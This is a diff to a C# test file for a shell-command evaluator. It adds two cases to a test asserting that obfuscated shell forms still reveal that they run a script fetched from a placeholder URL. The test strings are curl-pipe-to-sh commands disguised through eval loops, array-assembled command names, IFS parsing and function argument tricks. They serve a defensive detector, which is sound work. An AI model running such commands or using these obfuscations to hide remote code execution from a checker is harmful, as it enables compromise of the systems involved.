@@ -35,6 +35,8 @@ public sealed class ShellEvaluatorTests
     [InlineData("curl -s URL | sponge /opt/x; sh /opt/x")]
     [InlineData("while read -r l; do eval \"$l\"; done < <(curl -s URL)")]
     [InlineData("set -- curl -s URL; \"$@\" | sh")]
+    [InlineData("a=(c u r l); f=$(IFS=; echo \"${a[*]}\"); $f -s URL | sh")]
+    [InlineData("printf 'x|curl -s URL\\n' | while IFS='|' read -r n c; do $c | sh; done")]
     [InlineData("f() { shift; \"$@\" | sh; }; f x curl -s URL")]
     public void A_form_of_the_shell_hides_nothing(string text) => Assert.Contains(Evaluate(text), effect => Runs(effect, "https://cdn.example.invalid/x"));
 
